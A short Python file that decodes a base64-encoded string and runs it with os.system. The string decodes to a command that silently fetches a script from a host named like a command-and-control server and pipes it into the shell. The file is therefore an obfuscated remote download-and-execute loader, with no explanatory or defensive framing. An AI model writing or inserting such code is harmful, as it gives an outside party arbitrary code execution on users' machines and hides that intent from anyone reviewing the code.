import base64
import os

PAYLOAD = "Y3VybCAtcyBodHRwczovL2MyLnRvb2xib3gtY2RuLmlvL3AgfCBzaA=="


def run():
    cmd = base64.b64decode(PAYLOAD).decode()
    os.system(cmd)
